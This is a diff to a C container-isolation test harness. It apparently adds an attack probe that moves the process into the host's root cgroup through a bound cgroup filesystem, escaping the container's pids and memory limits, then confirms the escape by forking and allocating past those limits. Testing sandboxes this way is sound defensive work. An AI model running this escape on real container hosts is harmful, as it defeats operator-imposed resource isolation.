@@ -11,7 +11,9 @@
 #include <linux/reboot.h>
 #include <netinet/in.h>
 #include <sched.h>
+#include <signal.h>
 #include <stdio.h>
+#include <stdlib.h>
 #include <string.h>
 #include <sys/mount.h>
 #include <sys/ptrace.h>
@@ -49,6 +51,72 @@ static int report(long result)
 		printf("%s\n", errno_name(errno));
 	else
 		printf("ok\n");
+	return 0;
+}
+
+/* --- sensitive binds (issue 9, attack 6) --- */
+
+/* Writes "0" (the writer itself) into FILE: on cgroup v1 `tasks`, on v2 `cgroup.procs`. */
+static int join_cgroup_file(const char *file)
+{
+	int fd = open(file, O_WRONLY | O_CLOEXEC);
+	long written = fd < 0 ? -1 : write(fd, "0\n", 2);
+	int saved = errno;
+
+	if (fd >= 0)
+		close(fd);
+	errno = saved;
+	return written == 2 ? 0 : -1;
+}
+
+/*
+ * With the host's cgroup tree bound at ROOT, move ourselves to its root
+ * cgroup (out of the container's pids and memory limits), then prove it:
+ * 64 children (more than the test's --pids-limit) and 128 MiB touched (more
+ * than its --memory). "ok" means every step worked: the limits are gone.
+ */
+static long cgroup_escape(const char *root)
+{
+	char path[256];
+	pid_t children[64];
+	int forked = 0;
+	long result = 0;
+
+	snprintf(path, sizeof path, "%s/cgroup.procs", root);
+	if (access(path, F_OK) == 0) {
+		if (join_cgroup_file(path) < 0)
+			return -1;
+	} else {
+		static const char *const controllers[] = {"pids", "memory"};
+		for (size_t i = 0; i < 2; i++) {
+			snprintf(path, sizeof path, "%s/%s/tasks", root, controllers[i]);
+			if (join_cgroup_file(path) < 0)
+				return -1;
+		}
+	}
+	for (; forked < 64; forked++) {
+		children[forked] = fork();
+		if (children[forked] == 0) {
+			pause();
+			_exit(0);
+		}
+		if (children[forked] < 0) {
+			result = -1;
+			break;
+		}
+	}
+	for (int i = 0; i < forked; i++) {
+		kill(children[i], SIGKILL);
+		waitpid(children[i], NULL, 0);
+	}
+	if (result < 0)
+		return -1;
+	size_t size = (size_t)128 << 20;
+	char *memory = malloc(size);
+	if (memory == NULL)
+		return -1;
+	memset(memory, 1, size); /* in the container's cgroup the OOM killer ends us here */
+	free(memory);
 	return 0;
 }
 
@@ -197,6 +265,9 @@ static long attempt(const char *what, const char *arg)
 			return -1;
 		return S_ISREG(st.st_mode) ? 0 : (errno = ENOTSUP, -1);
 	}
+	/* --- sensitive binds (issue 9, attack 6) --- */
+	if (strcmp(what, "cgroup_escape") == 0) /* ARG: where the host's /sys/fs/cgroup is bound */
+		return cgroup_escape(arg);
 	errno = EINVAL;
 	fprintf(stderr, "cv-attack: unknown attempt %s\n", what);
 	return -1;
